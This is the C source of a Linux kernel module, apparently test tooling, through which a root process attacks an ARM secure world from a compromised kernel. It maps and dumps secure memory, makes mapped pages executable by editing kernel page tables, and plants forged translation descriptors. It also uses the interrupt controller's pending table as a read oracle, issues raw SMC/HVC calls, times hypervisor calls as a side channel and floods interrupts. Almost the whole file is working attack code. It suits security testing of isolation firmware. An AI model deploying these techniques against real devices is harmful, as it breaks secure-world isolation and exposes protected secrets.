// SPDX-License-Identifier: MIT OR GPL-2.0
/*
 * What an attacker who owns the Linux kernel can try on the secure world, as requests that a root process sends.
 *
 * Nothing runs from module_init: an Oops there would leave the module half loaded. A direct access runs in a kernel thread of its
 * own, which an Oops kills alone (panic_on_oops must be 0). Stage-1 walks run with interrupts off and with somebody else's
 * translation table, so an Oops there is taken back by a die notifier that continues behind the faulting instruction.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/arm-smccc.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/io.h>
#include <linux/kdebug.h>
#include <linux/kthread.h>
#include <linux/list.h>
#include <linux/miscdevice.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/notifier.h>
#include <linux/prandom.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <asm/cacheflush.h>
#include <asm/sysreg.h>

#include "exclave_attack.h"

#define RAM_BASE 0x40000000UL
#define RAM_LIMIT 0x140000000UL /* more memory is refused at boot; PCI lies above */
#define RET_INSTRUCTION 0xd65f03c0U
#define THREAD_DEADLINE_MS 10000
#define LINE_BYTES 64UL /* DCZID_EL0 of this machine's CPUs */
#define STORE_EXCLUSIVE 1
#define STORE_SWAP 2
#define STORE_ZERO 3

/* GICv3 redistributors of the `virt` machine (Arm IHI 0069, 12.10). */
#define REDISTRIBUTOR 0x080a0000UL
#define REDISTRIBUTOR_STRIDE 0x20000UL
#define GICR_CTLR 0x0000
#define GICR_TYPER 0x0008
#define GICR_PROPBASER 0x0070
#define GICR_PENDBASER 0x0078
#define GICR_CTLR_ENABLE_LPIS 1U
#define GICR_ID_BITS 15UL
#define FIRST_LPI 8192U
#define LPI_CONFIG_ORDER 4 /* 64 KiB: one byte for each of 65,536 - 8,192 LPIs */
#define SYS_HPPIR1 sys_reg(3, 0, 12, 12, 2)

/* SGI frame of a redistributor, and CPU interface registers (12.11, 12.2). SGIs 14 and 15 are not used by Linux. */
#define SGI_FRAME 0x10000
#define GICR_IGROUPR0 0x0080
#define GICR_ISENABLER0 0x0100
#define GICR_ICENABLER0 0x0180
#define GICR_ISPENDR0 0x0200
#define GICR_ICPENDR0 0x0280
#define SGI_GROUP1 14
#define SGI_GROUP0 15
#define DISTRIBUTOR 0x08000000UL
#define GICD_CTLR 0x0000
#define GICD_CTLR_GROUP0 1U
#define SYS_IAR0 sys_reg(3, 0, 12, 8, 0)
#define SYS_EOIR0 sys_reg(3, 0, 12, 8, 1)
#define SYS_SGI1R sys_reg(3, 0, 12, 11, 5)
#define SYS_IAR1 sys_reg(3, 0, 12, 12, 0)
#define SYS_EOIR1 sys_reg(3, 0, 12, 12, 1)
#define SYS_IGRPEN0 sys_reg(3, 0, 12, 12, 6)
#define NO_INTERRUPT 1023

#define RPC_FOREIGN_INTERRUPT 0xffff0004UL
#define RETURN_FROM_RPC 0x32000003UL

/* Level-0 and level-1 descriptors of a 4 KiB granule (Arm ARM D8.3). */
#define DESCRIPTOR_TABLE 3UL
#define DESCRIPTOR_BLOCK_NORMAL_KERNEL (1UL | (3UL << 8) | (1UL << 10) | (1UL << 11) | (3UL << 53))
#define LEVEL0_SHIFT 39
#define GIBIBYTE (1UL << 30)

struct owned_page {
    struct list_head list;
    struct page *page;
};

static LIST_HEAD(owned_pages);
static DEFINE_MUTEX(attack_lock);

/* The task whose Oops is taken back, and where it goes on. Written by that task itself before its access. */
static struct task_struct *recovering_task;
static unsigned long recovery_address;
static bool recovered;

static int take_oops_back(struct notifier_block *block, unsigned long event, void *data)
{
    struct die_args *args = data;

    if (event != DIE_OOPS || READ_ONCE(recovering_task) != current)
        return NOTIFY_DONE;

    args->regs->pc = READ_ONCE(recovery_address);
    WRITE_ONCE(recovered, true);
    return NOTIFY_STOP;
}

static struct notifier_block die_notifier = { .notifier_call = take_oops_back, .priority = INT_MAX };

static bool is_device(phys_addr_t address)
{
    return address < RAM_BASE || address >= RAM_LIMIT;
}

static pgprot_t protection_for(phys_addr_t address)
{
    return __pgprot(is_device(address) ? PROT_DEVICE_nGnRE : PROT_NORMAL);
}

/* Maps the page of an address into the kernel's half (TTBR1). Secure memory is reserved without a linear mapping, so this is allowed. */
static void *map_page(phys_addr_t address, pgprot_t protection)
{
    void *page = (void __force *)ioremap_prot(address & PAGE_MASK, PAGE_SIZE, pgprot_val(protection));

    return page ? page + offset_in_page(address) : NULL;
}

/*
 * ioremap never gives an executable mapping, but whoever owns the kernel writes its tables: finds the page's descriptor by a walk
 * from TTBR1 and lets EL1 execute there. Four levels, 48-bit addresses: Debian's configuration.
 */
static void make_executable(void *mapped)
{
    unsigned long address = (unsigned long)mapped & PAGE_MASK;
    u64 *entry = NULL;
    u64 table = read_sysreg(ttbr1_el1) & PHYS_MASK & PAGE_MASK;
    int shift;

    for (shift = 39; shift >= PAGE_SHIFT; shift -= 9) {
        entry = (u64 *)phys_to_virt(table) + ((address >> shift) & 511);
        table = READ_ONCE(*entry) & PHYS_MASK & PAGE_MASK;
    }
    WRITE_ONCE(*entry, READ_ONCE(*entry) & ~PTE_PXN);
    dsb(ishst);
    flush_tlb_kernel_range(address, address + PAGE_SIZE);
    isb();
}

static void unmap_page(void *mapped)
{
    iounmap((void __iomem *)((unsigned long)mapped & PAGE_MASK));
}

static int load_fixup(void *from, unsigned int bytes, u64 *value)
{
    *value = 0;
    return copy_from_kernel_nofault(value, from, bytes);
}

/* The kernel does not export its own counterpart of copy_from_kernel_nofault for writes. */
static int store_fixup(void *to, unsigned int bytes, u64 value)
{
    u8 v8 = value;
    u16 v16 = value;
    u32 v32 = value;

    pagefault_disable();
    switch (bytes) {
    case 1:
        __put_kernel_nofault(to, &v8, u8, fault);
        break;
    case 2:
        __put_kernel_nofault(to, &v16, u16, fault);
        break;
    case 4:
        __put_kernel_nofault(to, &v32, u32, fault);
        break;
    default:
        __put_kernel_nofault(to, &value, u64, fault);
        break;
    }
    pagefault_enable();
    return 0;

fault:
    pagefault_enable();
    return -EFAULT;
}

static u64 load_direct(void *from, unsigned int bytes)
{
    switch (bytes) {
    case 1:
        return READ_ONCE(*(u8 *)from);
    case 2:
        return READ_ONCE(*(u16 *)from);
    case 4:
        return READ_ONCE(*(u32 *)from);
    default:
        return READ_ONCE(*(u64 *)from);
    }
}

static void store_direct(void *to, unsigned int bytes, u64 value)
{
    switch (bytes) {
    case 1:
        WRITE_ONCE(*(u8 *)to, value);
        break;
    case 2:
        WRITE_ONCE(*(u16 *)to, value);
        break;
    case 4:
        WRITE_ONCE(*(u32 *)to, value);
        break;
    default:
        WRITE_ONCE(*(u64 *)to, value);
        break;
    }
}

/* The exclusive pair, an atomic instruction: accesses of their own kind to translation and monitors. */
static void store_exclusive(u64 *to, u64 value)
{
    u64 old;
    u32 failed;

    asm volatile("1: ldxr %0, %2\n"
                 "   stxr %w1, %3, %2\n"
                 "   cbnz %w1, 1b"
                 : "=&r"(old), "=&r"(failed), "+Q"(*to)
                 : "r"(value)
                 : "memory");
}

static void store_swap(u64 *to, u64 value)
{
    u64 old;

    asm volatile(".arch_extension lse\n"
                 "swp %2, %0, %1"
                 : "=&r"(old), "+Q"(*to)
                 : "r"(value)
                 : "memory");
}

/* Zeroes the line of an address. Out: how many of its bytes read as zero. With restore it is full before, and what was there is put back. */
static u64 zero_line(void *address, bool restore)
{
    u8 *line = (u8 *)((unsigned long)address & ~(LINE_BYTES - 1));
    u8 old[LINE_BYTES];
    u64 zeros = 0;
    unsigned int i;

    if (restore) {
        memcpy(old, line, LINE_BYTES);
        memset(line, 0x5a, LINE_BYTES);
    }
    asm volatile("dc zva, %0" : : "r"(line) : "memory");
    for (i = 0; i < LINE_BYTES; i++)
        zeros += !READ_ONCE(line[i]);
    if (restore)
        memcpy(line, old, LINE_BYTES);
    return zeros;
}

/* What the kernel has as its own memory, donated or not, it reads where it always does: ioremap refuses it. */
static void read_with_fixup(struct exclave_attack *attack)
{
    bool is_own = pfn_is_map_memory(PHYS_PFN(attack->in[0]));
    void *mapped = is_own ? phys_to_virt(attack->in[0]) : map_page(attack->in[0], protection_for(attack->in[0]));

    if (!mapped) {
        attack->error = -ENOMEM;
        return;
    }
    attack->error = load_fixup(mapped, attack->in[1], &attack->out[0]);
    if (!is_own)
        unmap_page(mapped);
}

static void write_with_fixup(struct exclave_attack *attack)
{
    unsigned int bytes = attack->in[1];
    void *mapped = map_page(attack->in[0], protection_for(attack->in[0]));
    unsigned long flags;

    if (!mapped) {
        attack->error = -ENOMEM;
        return;
    }
    local_irq_save(flags);
    attack->error = store_fixup(mapped, bytes, attack->in[2]);
    if (!attack->error) {
        load_fixup(mapped, bytes, &attack->out[0]);
        if (attack->in[3])
            store_fixup(mapped, bytes, attack->in[4]);
    }
    local_irq_restore(flags);
    unmap_page(mapped);
}

/* A thread that may die. It is shared with the thread, so it is freed only when that thread is known to have ended. */
struct victim {
    struct exclave_attack *attack;
    u64 kind;
    u32 flags;
    u64 in[8];
    u64 value;
    bool survived;
};

static void call_instruction(struct victim *victim, void *mapped)
{
    u32 *word = mapped;
    u32 old = 0;

    if (victim->in[1]) {
        old = READ_ONCE(*word);
        WRITE_ONCE(*word, RET_INSTRUCTION);
        caches_clean_inval_pou((unsigned long)word, (unsigned long)(word + 1));
    }
    asm volatile("blr %0" : : "r"(mapped) : "x30", "memory");
    victim->value = 1;
    if (victim->in[1]) {
        WRITE_ONCE(*word, old);
        caches_clean_inval_pou((unsigned long)word, (unsigned long)(word + 1));
    }
}

static int victim_main(void *argument)
{
    struct victim *victim = argument;
    bool fetch = victim->kind == EXCLAVE_FETCH;
    unsigned int bytes = victim->in[1];
    void *mapped = map_page(victim->in[0], protection_for(victim->in[0]));

    if (!mapped)
        return -ENOMEM;

    /* The mapping of a thread that dies is lost: a page of address space. */
    if (fetch) {
        make_executable(mapped);
        call_instruction(victim, mapped);
    } else if (victim->kind == EXCLAVE_READ_DIRECT) {
        victim->value = load_direct(mapped, bytes);
    } else if (victim->flags == STORE_ZERO) {
        victim->value = zero_line(mapped, victim->in[3]);
    } else {
        if (victim->flags == STORE_EXCLUSIVE)
            store_exclusive(mapped, victim->in[2]);
        else if (victim->flags == STORE_SWAP)
            store_swap(mapped, victim->in[2]);
        else
            store_direct(mapped, bytes, victim->in[2]);
        victim->value = load_direct(mapped, bytes);
        if (victim->in[3])
            store_direct(mapped, bytes, victim->in[4]);
    }
    victim->survived = true;
    unmap_page(mapped);
    return 0;
}

static void run_in_victim(struct exclave_attack *attack)
{
    struct victim *victim = kzalloc(sizeof(*victim), GFP_KERNEL);
    struct task_struct *task;
    int waited;

    if (!victim) {
        attack->error = -ENOMEM;
        return;
    }
    victim->kind = attack->kind;
    victim->flags = attack->flags;
    memcpy(victim->in, attack->in, sizeof(victim->in));
    task = kthread_create(victim_main, victim, "exclave_victim");
    if (IS_ERR(task)) {
        attack->error = PTR_ERR(task);
        kfree(victim);
        return;
    }

    get_task_struct(task);
    wake_up_process(task);
    for (waited = 0; !READ_ONCE(task->exit_state) && waited < THREAD_DEADLINE_MS; waited += 5)
        msleep(5);

    if (READ_ONCE(task->exit_state)) {
        attack->out[0] = !victim->survived;
        attack->out[1] = victim->value;
        kfree(victim);
    } else {
        attack->error = -ETIMEDOUT; /* the thread still runs and keeps its record */
    }
    put_task_struct(task);
}

/*
 * One access through a translation table at an address of the attacker's choice. Returns true if the access raised no abort.
 * The stack, the code and this CPU's exception handlers are in the kernel's half and do not depend on TTBR0.
 */
static noinline bool access_through(u64 table, u64 address, bool load, u64 *result)
{
    u64 old = read_sysreg(ttbr0_el1);
    u64 value = 0;
    u64 done = 0;
    u64 resume;

    asm volatile(
        "   adr     %[resume], 3f\n"
        "   str     %[resume], [%[slot]]\n"
        "   msr     ttbr0_el1, %[table]\n"
        "   isb\n"
        "   tlbi    vmalle1\n"
        "   dsb     nsh\n"
        "   isb\n"
        "   cbnz    %[load], 1f\n"
        "   at      s1e1r, %[address]\n"
        "   isb\n"
        "   mrs     %[value], par_el1\n"
        "   b       2f\n"
        "1: ldr     %[value], [%[address]]\n"
        "2: mov     %[done], #1\n"
        "3: msr     ttbr0_el1, %[old]\n"
        "   isb\n"
        "   tlbi    vmalle1\n"
        "   dsb     nsh\n"
        "   isb\n"
        : [value] "+&r"(value), [done] "+&r"(done), [resume] "=&r"(resume)
        : [slot] "r"(&recovery_address), [table] "r"(table), [address] "r"(address), [load] "r"((u64)load), [old] "r"(old)
        : "memory");
    *result = value;
    return done;
}

static void walk(struct exclave_attack *attack)
{
    u64 slot_address = attack->in[0];
    u64 index = offset_in_page(slot_address) / sizeof(u64);
    bool plant = attack->in[2];
    u64 *level1 = (u64 *)get_zeroed_page(GFP_KERNEL);
    u64 *proof = (u64 *)get_zeroed_page(GFP_KERNEL);
    u64 proof_address = proof ? virt_to_phys(proof) : 0;
    void *mapped = NULL;
    unsigned long flags;
    u64 old = 0;

    if (plant)
        mapped = map_page(slot_address, protection_for(slot_address));
    if (!level1 || !proof || (plant && !mapped)) {
        attack->error = -ENOMEM;
        goto out;
    }

    *proof = 0x464f4f5250ULL; /* "PROOF" */
    level1[0] = (proof_address & ~(GIBIBYTE - 1)) | DESCRIPTOR_BLOCK_NORMAL_KERNEL;
    attack->out[2] = attack->in[1] ? *proof : proof_address;

    local_irq_save(flags);
    if (plant) {
        old = load_direct(mapped, sizeof(u64));
        store_direct(mapped, sizeof(u64), virt_to_phys(level1) | DESCRIPTOR_TABLE);
    }
    dsb(ish);
    WRITE_ONCE(recovered, false);
    WRITE_ONCE(recovering_task, current);
    barrier();
    attack->out[0] = !access_through(slot_address & PAGE_MASK, (index << LEVEL0_SHIFT) | (proof_address & (GIBIBYTE - 1)),
                                     attack->in[1], &attack->out[1]);
    barrier();
    WRITE_ONCE(recovering_task, NULL);
    if (plant)
        store_direct(mapped, sizeof(u64), old);
    local_irq_restore(flags);
    attack->out[3] = READ_ONCE(recovered);

out:
    if (mapped)
        unmap_page(mapped);
    free_page((unsigned long)level1);
    free_page((unsigned long)proof);
}

/* The redistributor of the CPU this runs on. */
static void __iomem *map_own_redistributor(void)
{
    u64 mpidr = read_cpuid_mpidr();
    u32 affinity = (mpidr & 0xffffff) | ((mpidr >> 8) & 0xff000000);
    unsigned int i;

    for (i = 0; i < nr_cpu_ids; i++) {
        void __iomem *frame = ioremap(REDISTRIBUTOR + i * REDISTRIBUTOR_STRIDE, 0x10000);

        if (!frame)
            return NULL;
        if (readq(frame + GICR_TYPER) >> 32 == affinity)
            return frame;
        iounmap(frame);
    }
    return NULL;
}

/*
 * One LPI is enabled at a time, so that the highest pending interrupt tells whether its bit is set in the "pending table".
 * Interrupts are off from the first LPI that may become pending to the moment LPIs are disabled again.
 */
static bool pending_bit(void __iomem *frame, u8 *config, u64 base, u32 interrupt, struct exclave_attack *attack)
{
    unsigned long flags;
    u64 highest;

    config[interrupt - FIRST_LPI] = 1; /* enabled, highest priority */
    dsb(sy);
    local_irq_save(flags);
    writel(0, frame + GICR_CTLR);
    writeq(virt_to_phys(config) | GICR_ID_BITS, frame + GICR_PROPBASER);
    writeq(base, frame + GICR_PENDBASER);
    writel(GICR_CTLR_ENABLE_LPIS, frame + GICR_CTLR);
    dsb(sy);
    highest = read_sysreg_s(SYS_HPPIR1);
    attack->out[1] = readq(frame + GICR_PROPBASER);
    attack->out[2] = readq(frame + GICR_PENDBASER);
    attack->out[3] = readl(frame + GICR_CTLR);
    writel(0, frame + GICR_CTLR);
    dsb(sy);
    local_irq_restore(flags);
    config[interrupt - FIRST_LPI] = 0;
    return highest == interrupt;
}

static void lpi_oracle(struct exclave_attack *attack)
{
    u64 base = attack->in[0] & ~0xffffUL;
    u64 offset = attack->in[0] & 0xffff;
    u64 bytes = attack->in[1];
    u8 *config;
    void __iomem *frame;
    u64 bit;

    if (offset < FIRST_LPI / 8 || bytes > 8 || offset + bytes > 8192) {
        attack->error = -EINVAL;
        return;
    }
    config = (u8 *)__get_free_pages(GFP_KERNEL | __GFP_ZERO, LPI_CONFIG_ORDER);
    if (!config) {
        attack->error = -ENOMEM;
        return;
    }

    migrate_disable();
    frame = map_own_redistributor();
    if (frame) {
        attack->out[5] = readq(frame + GICR_TYPER);
        for (bit = 0; bit < bytes * 8; bit++) {
            if (pending_bit(frame, config, base, offset * 8 + bit, attack)) {
                attack->out[0] |= 1UL << bit;
                attack->out[4]++;
            }
        }
        writeq(0, frame + GICR_PROPBASER);
        writeq(0, frame + GICR_PENDBASER);
        iounmap(frame);
    } else {
        attack->error = -ENODEV;
    }
    migrate_enable();
    free_pages((unsigned long)config, LPI_CONFIG_ORDER);
}

#define CALL_WITH(instruction)                                                                                        \
    asm volatile(instruction                                                                                          \
                 : "+r"(x0), "+r"(x1), "+r"(x2), "+r"(x3)                                                             \
                 :                                                                                                    \
                 : "x4", "x5", "x6", "x7", "x8", "x9", "x10", "x11", "x12", "x13", "x14", "x15", "x16", "x17", "memory")

/* Calls whose instruction names something else than 0: the immediate is part of the instruction. */
static void call_with_immediate(struct exclave_attack *attack)
{
    register u64 x0 asm("x0") = attack->in[0];
    register u64 x1 asm("x1") = attack->in[1];
    register u64 x2 asm("x2") = attack->in[2];
    register u64 x3 asm("x3") = attack->in[3];

    switch (attack->flags) {
    case 2:
        CALL_WITH("hvc #1");
        break;
    case 3:
        CALL_WITH("smc #1");
        break;
    case 4:
        CALL_WITH("hvc #0xffff");
        break;
    default:
        CALL_WITH("smc #0xffff");
        break;
    }
    attack->out[0] = x0;
    attack->out[1] = x1;
    attack->out[2] = x2;
    attack->out[3] = x3;
}

static void call(struct exclave_attack *attack)
{
    struct arm_smccc_res result;
    u64 *in = attack->in;

    if (attack->flags > 1) {
        call_with_immediate(attack);
        return;
    }
    if (attack->flags & 1)
        arm_smccc_smc(in[0], in[1], in[2], in[3], in[4], in[5], in[6], in[7], &result);
    else
        arm_smccc_hvc(in[0], in[1], in[2], in[3], in[4], in[5], in[6], in[7], &result);
    attack->out[0] = result.a0;
    attack->out[1] = result.a1;
    attack->out[2] = result.a2;
    attack->out[3] = result.a3;
}

/* From the counter read before the HVC to the one after it. The counter has ticks of many instructions: a delay moves their phase. */
static u64 timed_hvc(u64 regs[4], u64 delay)
{
    register u64 x0 asm("x0") = regs[0];
    register u64 x1 asm("x1") = regs[1];
    register u64 x2 asm("x2") = regs[2];
    register u64 x3 asm("x3") = regs[3];
    register u64 x4 asm("x4") = 0;
    register u64 x5 asm("x5") = 0;
    register u64 x6 asm("x6") = 0;
    register u64 x7 asm("x7") = 0;
    register u64 begin asm("x20");
    register u64 end asm("x21");

    asm volatile(
        "1: subs    %[delay], %[delay], #1\n"
        "   b.pl    1b\n"
        "   isb\n"
        "   mrs     x20, cntvct_el0\n"
        "   hvc     #0\n"
        "   mrs     x21, cntvct_el0\n"
        : [delay] "+r"(delay), "+r"(x0), "+r"(x1), "+r"(x2), "+r"(x3), "+r"(x4), "+r"(x5), "+r"(x6), "+r"(x7), "=&r"(begin), "=&r"(end)
        :
        : "x8", "x9", "x10", "x11", "x12", "x13", "x14", "x15", "x16", "x17", "cc", "memory");
    regs[0] = x0;
    regs[1] = x1;
    regs[2] = x2;
    regs[3] = x3;
    return end - begin;
}

/* Raises an SGI at this CPU, calls, takes the SGI. All with every exception masked, so that Linux itself takes nothing in between. */
static void call_with_sgi(struct exclave_attack *attack, u64 regs[4], void __iomem *sgi_frame, void __iomem *distributor)
{
    bool fast = attack->in[4] == 1;
    u32 interrupt = fast ? SGI_GROUP0 : SGI_GROUP1;
    u32 groups = readl(sgi_frame + GICR_IGROUPR0);
    u32 control = readl(distributor + GICD_CTLR);

    if (fast) {
        writel(groups & ~BIT(interrupt), sgi_frame + GICR_IGROUPR0);
        writel(control | GICD_CTLR_GROUP0, distributor + GICD_CTLR);
        write_sysreg_s(1, SYS_IGRPEN0);
    }
    writel(BIT(interrupt), sgi_frame + GICR_ISENABLER0);
    writel(BIT(interrupt), sgi_frame + GICR_ISPENDR0);
    readl(sgi_frame + GICR_ISPENDR0);
    dsb(sy);
    isb();

    timed_hvc(regs, 0);

    attack->out[5] = fast ? read_sysreg_s(SYS_IAR0) : read_sysreg_s(SYS_IAR1);
    dsb(sy);
    if (attack->out[5] < NO_INTERRUPT - 3) {
        if (fast)
            write_sysreg_s(attack->out[5], SYS_EOIR0);
        else
            write_sysreg_s(attack->out[5], SYS_EOIR1);
        isb();
    }
    writel(BIT(interrupt), sgi_frame + GICR_ICPENDR0);
    writel(BIT(interrupt), sgi_frame + GICR_ICENABLER0);
    if (fast) {
        write_sysreg_s(0, SYS_IGRPEN0);
        writel(control, distributor + GICD_CTLR);
        writel(groups, sgi_frame + GICR_IGROUPR0);
    }
    dsb(sy);
}

/* Lends the virtual timer, which is Linux's tick: what was due meanwhile comes when it is given back. */
static void call_with_timer(struct exclave_attack *attack, u64 regs[4])
{
    u64 control = read_sysreg(cntv_ctl_el0);
    u64 compare = read_sysreg(cntv_cval_el0);
    u64 due, now;

    isb();
    due = read_sysreg(cntvct_el0) + attack->in[5];
    write_sysreg(due, cntv_cval_el0);
    write_sysreg(1, cntv_ctl_el0);
    isb();

    timed_hvc(regs, 0);

    isb();
    now = read_sysreg(cntvct_el0);
    attack->out[4] = regs[0] == RPC_FOREIGN_INTERRUPT && now > due ? now - due : 0;
    write_sysreg(compare, cntv_cval_el0);
    write_sysreg(control, cntv_ctl_el0);
    isb();
}

static void interrupted_call(struct exclave_attack *attack)
{
    void __iomem *frame, *sgi_frame = NULL, *distributor = NULL;
    u64 regs[4];
    u64 flags;

    memcpy(regs, attack->in, sizeof(regs));
    migrate_disable();
    frame = map_own_redistributor();
    if (frame) {
        u64 number = (readq(frame + GICR_TYPER) >> 8) & 0xffff;

        sgi_frame = ioremap(REDISTRIBUTOR + number * REDISTRIBUTOR_STRIDE + SGI_FRAME, 0x10000);
        distributor = ioremap(DISTRIBUTOR, 0x10000);
    }
    if (sgi_frame && distributor) {
        flags = read_sysreg(daif);
        asm volatile("msr daifset, #15" : : : "memory");
        if (attack->in[4] == 2)
            call_with_timer(attack, regs);
        else
            call_with_sgi(attack, regs, sgi_frame, distributor);
        write_sysreg(flags, daif);
        memcpy(attack->out, regs, sizeof(regs));
    } else {
        attack->error = -ENODEV;
    }
    if (distributor)
        iounmap(distributor);
    if (sgi_frame)
        iounmap(sgi_frame);
    if (frame)
        iounmap(frame);
    migrate_enable();
}

static void storm(struct exclave_attack *attack)
{
    u64 i;

    for (i = 0; i < attack->in[1] && !fatal_signal_pending(current); i++) {
        write_sysreg_s(attack->in[0] & 0xffff, SYS_SGI1R);
        isb();
        if (!(i & 0xff))
            cond_resched();
    }
}

/*
 * With the phase of the tick spread evenly, calls of one length measure n or n + 1 ticks, in a proportion that is the length's fraction:
 * how often each was seen gives the length of the shortest path to a fraction of an instruction.
 */
static void timed_call(struct exclave_attack *attack)
{
    u64 least = U64_MAX;
    u64 at_least = 0;
    u64 at_next = 0;
    u64 sum = 0;
    u64 interrupted = 0;
    u64 regs[4] = { 0 };
    u64 i;

    for (i = 0; i < attack->in[4]; i++) {
        bool whole = true;
        u64 ticks;

        memcpy(regs, attack->in, sizeof(regs));
        ticks = timed_hvc(regs, prandom_u32_max(64));
        while (regs[0] == RPC_FOREIGN_INTERRUPT) {
            whole = false;
            cond_resched();
            regs[0] = RETURN_FROM_RPC;
            ticks += timed_hvc(regs, 0);
        }
        if (regs[0] != 0)
            break;
        sum += ticks;
        interrupted += !whole;
        if (!whole)
            continue;
        if (ticks < least) {
            at_next = ticks + 1 == least ? at_least : 0;
            at_least = 0;
            least = ticks;
        }
        at_least += ticks == least;
        at_next += ticks == least + 1;
    }
    attack->out[0] = least;
    attack->out[1] = sum;
    attack->out[2] = interrupted;
    attack->out[3] = regs[0];
    attack->out[4] = at_least;
    attack->out[5] = at_next;
    attack->error = i == attack->in[4] ? 0 : -EIO;
}

static void new_page(struct exclave_attack *attack)
{
    struct owned_page *owned = kzalloc(sizeof(*owned), GFP_KERNEL);

    if (owned)
        owned->page = alloc_page(GFP_KERNEL | __GFP_ZERO | (attack->in[0] ? GFP_DMA : 0));
    if (!owned || !owned->page) {
        kfree(owned);
        attack->error = -ENOMEM;
        return;
    }
    list_add(&owned->list, &owned_pages);
    attack->out[0] = page_to_phys(owned->page);
}

static void dump(struct exclave_attack *attack)
{
    void *bounce = (void *)__get_free_page(GFP_KERNEL);
    char __user *to = (char __user *)attack->in[2];
    u64 done = 0;

    if (!bounce) {
        attack->error = -ENOMEM;
        return;
    }
    while (done < attack->in[1] && !attack->error && !fatal_signal_pending(current)) {
        void *mapped = map_page(attack->in[0] + done, protection_for(attack->in[0]));

        if (!mapped) {
            attack->error = -ENOMEM;
            break;
        }
        attack->error = copy_from_kernel_nofault(bounce, mapped, PAGE_SIZE);
        unmap_page(mapped);
        if (!attack->error && copy_to_user(to + done, bounce, PAGE_SIZE))
            attack->error = -EFAULT;
        if (!attack->error)
            done += PAGE_SIZE;
        cond_resched();
    }
    attack->out[0] = done;
    free_page((unsigned long)bounce);
}

static void run_locked(struct exclave_attack *attack)
{
    mutex_lock(&attack_lock);
    switch (attack->kind) {
    case EXCLAVE_READ:
        read_with_fixup(attack);
        break;
    case EXCLAVE_WRITE:
        write_with_fixup(attack);
        break;
    case EXCLAVE_READ_DIRECT:
    case EXCLAVE_WRITE_DIRECT:
    case EXCLAVE_FETCH:
        run_in_victim(attack);
        break;
    case EXCLAVE_WALK:
        walk(attack);
        break;
    case EXCLAVE_LPI:
        lpi_oracle(attack);
        break;
    case EXCLAVE_PAGE:
        new_page(attack);
        break;
    case EXCLAVE_DUMP:
        dump(attack);
        break;
    default:
        attack->error = -EINVAL;
        break;
    }
    mutex_unlock(&attack_lock);
}

static long attack_ioctl(struct file *file, unsigned int command, unsigned long argument)
{
    struct exclave_attack attack;

    if (command != EXCLAVE_ATTACK_RUN)
        return -ENOTTY;
    if (copy_from_user(&attack, (void __user *)argument, sizeof(attack)))
        return -EFAULT;
    attack.error = 0;
    memset(attack.out, 0, sizeof(attack.out));

    /* Calls run side by side, so that two CPUs can use one token in the same moment. */
    if (attack.kind == EXCLAVE_CALL)
        call(&attack);
    else if (attack.kind == EXCLAVE_TIMED_CALL)
        timed_call(&attack);
    else if (attack.kind == EXCLAVE_INTERRUPTED_CALL)
        interrupted_call(&attack);
    else if (attack.kind == EXCLAVE_STORM)
        storm(&attack);
    else
        run_locked(&attack);

    return copy_to_user((void __user *)argument, &attack, sizeof(attack)) ? -EFAULT : 0;
}

static int attack_mmap(struct file *file, struct vm_area_struct *vma)
{
    if (is_device((phys_addr_t)vma->vm_pgoff << PAGE_SHIFT))
        vma->vm_page_prot = pgprot_device(vma->vm_page_prot);
    return remap_pfn_range(vma, vma->vm_start, vma->vm_pgoff, vma->vm_end - vma->vm_start, vma->vm_page_prot);
}

static const struct file_operations attack_operations = {
    .owner = THIS_MODULE,
    .unlocked_ioctl = attack_ioctl,
    .mmap = attack_mmap,
};

static struct miscdevice attack_device = {
    .minor = MISC_DYNAMIC_MINOR,
    .name = "exclave_attack",
    .fops = &attack_operations,
    .mode = 0600,
};

static int __init attack_init(void)
{
    int error = register_die_notifier(&die_notifier);

    if (error)
        return error;
    error = misc_register(&attack_device);
    if (error)
        unregister_die_notifier(&die_notifier);
    return error;
}

static void __exit attack_exit(void)
{
    struct owned_page *owned, *next;

    misc_deregister(&attack_device);
    unregister_die_notifier(&die_notifier);
    list_for_each_entry_safe(owned, next, &owned_pages, list) {
        __free_page(owned->page);
        kfree(owned);
    }
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attacks of an owned Linux kernel on the secure world, for tests");
MODULE_LICENSE("Dual MIT/GPL");
